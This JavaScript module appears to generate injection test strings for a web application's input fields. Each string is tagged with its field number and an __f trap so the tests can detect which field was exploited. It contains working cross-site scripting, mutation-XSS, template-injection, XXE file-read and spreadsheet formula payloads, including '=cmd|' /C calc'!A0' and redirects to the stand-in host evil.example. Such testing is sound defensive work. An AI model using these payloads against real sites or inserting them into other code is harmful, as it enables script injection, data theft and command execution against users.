// What is typed: texts that would be obeyed if a page took them for anything but text. Each carries a number, and the
// number says which field it came from: `<zz17z>` is an element that no page of ours has, `__f(17)` tells the traps.

/** Nobody answers there, and no request may be made to it. */
export const ELSEWHERE = "evil.example";

/** How the number of a field stands in a text, and is found again in one. */
export const mark = (n) => `zz${n}z`;
export const marks = (text) => [...text.matchAll(/zz(\d+)z/g)].map(([, n]) => Number(n));

/** What a template would make of `{{41000000+17}}`. */
const SUM = 41_000_000;
export const computed = (text) =>
  [...text.matchAll(/(?<![\d+])410(\d{5})(?![\d+])/g)].map(([, n]) => Number(n)).filter((n) => n > 0); // a text that was cut off did no sum

// A spreadsheet takes what begins like this for a formula.
const BEGINNINGS = ["=", "+", "-", "@", "=cmd|' /C calc'!A0", "\t=", "\u202e", "=HYPERLINK(1)"];

/** Out of an attribute, a comment, a title, a field for text, into an element: the core of every text. */
const core = (n) => `'"--></title></textarea><${mark(n)} onfocus=__f(${n})>`;
/** The same for a small field, and for a tiny one. */
const small = (n) => `"></title></textarea><${mark(n)}>`;
const tiny = (n) => `"><${mark(n)}>`;

// One family a context; the texts of a family take turns.
const FAMILIES = {
  element: [
    (n) => `<script>__f(${n})</script>`,
    (n) => `<img src=x onerror=__f(${n})>`,
    (n) => `<svg/onload=__f(${n})>`,
    (n) => `<details open ontoggle=__f(${n})>`,
    (n) => `<iframe srcdoc="<script>parent.__f(${n})</script>">`,
    (n) => `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/${n}">`,
    (n) => `<base href=//${ELSEWHERE}/${n}/>`,
    (n) => `<object data="javascript:__f(${n})">`,
    (n) => `<style>@import'//${ELSEWHERE}/${n}'</style>`,
    (n) => `<form action=//${ELSEWHERE}/${n}><button>`,
  ],
  attribute: [
    (n) => `" autofocus onfocus=__f(${n}) ${mark(n)}="`,
    (n) => `' onmouseover='__f(${n})' ${mark(n)}='`,
    (n) => ` onmouseover=__f(${n}) ${mark(n)} `,
    (n) => `" style="background:url(//${ELSEWHERE}/${n})" ${mark(n)}="`,
    (n) => `&quot; onfocus=__f(${n}) ${mark(n)}=&quot;`,
  ],
  raw: [
    (n) => `</style><${mark(n)}>`,
    (n) => `</script><${mark(n)}>`,
    (n) => `]]><${mark(n)}>`,
    (n) => `</option></select><${mark(n)}>`,
  ],
  address: [
    (n) => `javascript:__f(${n})`,
    (n) => `data:text/html,<script>__f(${n})</script>`,
    (n) => `java\tscript:__f(${n})`,
    (n) => `//${ELSEWHERE}/${n}`,
  ],
  markdown: [
    (n) => `[${mark(n)}](javascript:__f(${n}))`,
    (n) => `![${mark(n)}](//${ELSEWHERE}/${n})`,
    (n) => `<javascript:__f(${n})>`,
    (n) => `[${mark(n)}](data:text/html,${n} "x\\" onclick=__f(${n})")`,
    (n) => `[${mark(n)}](<java&#115;cript:__f(${n})>)`,
  ],
  template: [
    (n) => `{{${SUM}+${n}}}`,
    (n) => `{{${SUM}+${n}}}{% raw %}{# `,
    (n) => `{ -town } { $name } {{${SUM}+${n}}}`,
    (n) => `\${${SUM}+${n}} #{${SUM}+${n}}`,
  ],
  data: [
    (n) => `"}],"${mark(n)}":[{"`,
    (n) => `\\u003c${mark(n)}\\u003e`,
    (n) => `&lt;${mark(n)}&gt;&#60;${mark(n)}&#62;`,
    (n) => `%3C${mark(n)}%3E\\n\\;BEGIN:VALARM`,
    (n) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///${n}">]>&e;`,
  ],
  // Harmless as it is parsed first, not when it is parsed again.
  twice: [
    (n) => `<noscript><p title="</noscript><img src=x onerror=__f(${n})>">`,
    (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__f(${n})&gt;">`,
    (n) => `<svg></p><style><a id="</style><img src=1 onerror=__f(${n})>">`,
  ],
};
const NAMES = Object.keys(FAMILIES);

/**
 * The text for field `n`: the core and, as far as there is room, a text of each family. Where a field is too small for
 * all, it begins with another family than its neighbours do.
 *
 * @param {number} n the number of the field
 * @param {number} room how many characters it may have
 */
export function hostile(n, room) {
  if (room < 56) return room < 32 ? tiny(n).slice(0, room) : small(n);
  let text = BEGINNINGS[n % BEGINNINGS.length] + core(n);
  if (text.length > room) text = core(n);
  for (let turn = 0; turn < NAMES.length; turn += 1) {
    const family = FAMILIES[NAMES[(n + turn) % NAMES.length]];
    const next = ` ${family[(n + turn) % family.length](n)}`;
    if (text.length + next.length <= room) text += next;
  }
  return text;
}
